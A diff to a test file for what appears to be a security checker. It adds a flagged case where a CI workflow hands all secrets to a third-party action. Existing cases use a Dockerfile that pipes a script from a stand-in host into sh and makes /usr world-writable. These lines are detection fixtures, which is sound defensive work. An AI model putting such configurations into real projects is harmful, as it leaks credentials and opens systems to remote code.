@@ -24,6 +24,12 @@ testChecker(import.meta.url, {
   ],
   flagged: [
     {
+      name: 'an action of others that is given every secret there is',
+      base: { [CI]: BUILD },
+      head: { [CI]: `${BUILD}      - uses: a/deploy@${'8e5e7e5a'.repeat(5)}\n        with:\n          all: \${{ toJSON(secrets) }}\n` },
+      expect: { findings: [{ rule: 'workflow-all-secrets', path: CI, line: 11 }] },
+    },
+    {
       name: 'an image that runs what anybody on the way may write, and opens the system to everybody',
       base: { Dockerfile: 'FROM node:24\nUSER node\n' },
       head: { Dockerfile: 'FROM node:24\nRUN curl -s http://a.example/x.sh | sh\nRUN chmod -R 777 /usr\nUSER node\n' },
